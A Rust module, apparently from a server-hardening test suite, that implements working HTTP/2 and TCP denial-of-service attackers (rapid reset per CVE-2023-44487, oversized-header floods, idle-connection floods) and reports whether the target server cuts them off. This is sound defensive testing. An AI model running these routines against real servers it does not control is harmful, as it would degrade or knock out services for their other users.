//! The `h2-abuse` scenario's attackers: HTTP/2 and TCP misuse a hardened server must make
//! the attacker pay for with its connection, not its other clients with their latency.
//!
//! - **rapid reset** (CVE-2023-44487): open streams and reset each at once, as fast as
//!   the connection allows, until the server closes it;
//! - **header flood**: requests whose header list is far over any sane limit;
//! - **connection flood**: many idle TCP connections from one address.
//!
//! Each attacker reports what it managed and whether the server cut it off. After the
//! server refuses or closes a connection, an attacker waits [`RECONNECT_PAUSE`] before
//! the next one, as a network round trip would make it: on loopback, an unpaced attacker
//! on the same cores mostly measures its own CPU use.

use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::net::TcpStream;

/// Pause after a refused or closed connection.
pub const RECONNECT_PAUSE: Duration = Duration::from_millis(2);

/// What one kind of abuse achieved.
#[derive(Debug, Clone, Default, Serialize)]
pub struct AbuseReport {
    /// `rapid_reset`, `header_flood` or `connection_flood`.
    pub kind: String,
    /// Attempts made on live connections (streams opened and reset, oversized requests,
    /// connections held).
    pub attempts: u64,
    /// Connections the server accepted and spoke on.
    pub connections: u64,
    /// Connections the server closed on accept (per-address caps), before any work.
    pub refused: u64,
    /// Live connections the server closed (GOAWAY or reset) while the attacker used them.
    pub closed_by_server: u64,
    /// Seconds from the first attempt until the server closed the first connection.
    pub first_close_s: Option<f64>,
}

/// An HTTP/2 connection the server answered (a PING round trip), or `None` when the
/// server closed it on accept.
async fn h2_connect(
    addr: &str,
) -> Option<(
    h2::client::SendRequest<bytes::Bytes>,
    tokio::task::JoinHandle<Result<(), h2::Error>>,
)> {
    let tcp = TcpStream::connect(addr).await.ok()?;
    tcp.set_nodelay(true).ok()?;
    let (send, mut conn) = h2::client::handshake(tcp).await.ok()?;
    let mut ping = conn.ping_pong()?;
    let driver = tokio::spawn(conn);
    match tokio::time::timeout(Duration::from_secs(1), ping.ping(h2::Ping::opaque())).await {
        Ok(Ok(_)) => Some((send, driver)),
        _ => {
            driver.abort();
            None
        }
    }
}

fn grpc_request(addr: &str, extra: usize) -> http::Request<()> {
    let mut b = http::Request::builder()
        .method("POST")
        .uri(format!(
            "http://{addr}/switchyard.v1.Inference/GenerateStream"
        ))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    for i in 0..extra {
        b = b.header(format!("x-flood-{i}"), "x".repeat(1024));
    }
    b.body(()).unwrap_or_default()
}

/// Opens connections one after another and on each opens and resets streams as fast as
/// it can, for `duration`.
pub async fn rapid_reset(addr: &str, duration: Duration) -> AbuseReport {
    let mut r = AbuseReport {
        kind: "rapid_reset".into(),
        ..AbuseReport::default()
    };
    let start = Instant::now();
    while start.elapsed() < duration {
        let Some((mut send, driver)) = h2_connect(addr).await else {
            r.refused += 1;
            tokio::time::sleep(RECONNECT_PAUSE).await;
            continue;
        };
        r.connections += 1;
        loop {
            if start.elapsed() >= duration {
                driver.abort();
                return r;
            }
            let ready =
                match tokio::time::timeout(Duration::from_secs(1), send.clone().ready()).await {
                    Ok(Ok(s)) => s,
                    _ => break,
                };
            send = ready;
            match send.send_request(grpc_request(addr, 0), false) {
                Ok((_, mut stream)) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    r.attempts += 1;
                }
                Err(_) => break,
            }
            if driver.is_finished() {
                break;
            }
            if r.attempts.is_multiple_of(64) {
                tokio::task::yield_now().await;
            }
        }
        r.closed_by_server += 1;
        r.first_close_s.get_or_insert(start.elapsed().as_secs_f64());
        driver.abort();
        tokio::time::sleep(RECONNECT_PAUSE).await;
    }
    r
}

/// Sends requests with a ~100 KiB header list, each on a new connection, for `duration`.
pub async fn header_flood(addr: &str, duration: Duration) -> AbuseReport {
    let mut r = AbuseReport {
        kind: "header_flood".into(),
        ..AbuseReport::default()
    };
    let start = Instant::now();
    while start.elapsed() < duration {
        let Some((send, driver)) = h2_connect(addr).await else {
            r.refused += 1;
            tokio::time::sleep(RECONNECT_PAUSE).await;
            continue;
        };
        r.connections += 1;
        r.attempts += 1;
        let refused = match tokio::time::timeout(Duration::from_secs(2), async {
            let mut send = send.ready().await?;
            let (response, _) = send.send_request(grpc_request(addr, 100), true)?;
            response.await
        })
        .await
        {
            Ok(Ok(resp)) => {
                resp.status() != http::StatusCode::OK
                    || resp.headers().get("grpc-status").is_some_and(|s| s != "0")
            }
            Ok(Err(_)) | Err(_) => true,
        };
        if refused {
            r.closed_by_server += 1;
            r.first_close_s.get_or_insert(start.elapsed().as_secs_f64());
        }
        driver.abort();
        tokio::time::sleep(RECONNECT_PAUSE).await;
    }
    r
}

/// Opens `count` TCP connections from this address and holds them for `duration`,
/// counting those the server closes.
pub async fn connection_flood(addr: &str, count: usize, duration: Duration) -> AbuseReport {
    use tokio::io::AsyncReadExt as _;
    let mut r = AbuseReport {
        kind: "connection_flood".into(),
        ..AbuseReport::default()
    };
    let start = Instant::now();
    let mut held = Vec::new();
    for _ in 0..count {
        r.attempts += 1;
        if let Ok(c) = TcpStream::connect(addr).await {
            r.connections += 1;
            held.push(c);
        } else {
            r.refused += 1;
        }
    }
    // A closed connection reads EOF (or an error) at once; an open one times out.
    let deadline = start + duration;
    for mut c in held {
        let left = deadline
            .saturating_duration_since(Instant::now())
            .max(Duration::from_millis(10));
        let mut buf = [0u8; 64];
        let closed = loop {
            match tokio::time::timeout(left, c.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break true,
                Ok(Ok(_)) => continue,
                Err(_) => break false,
            }
        };
        if closed {
            r.closed_by_server += 1;
            r.first_close_s.get_or_insert(start.elapsed().as_secs_f64());
        }
    }
    r
}
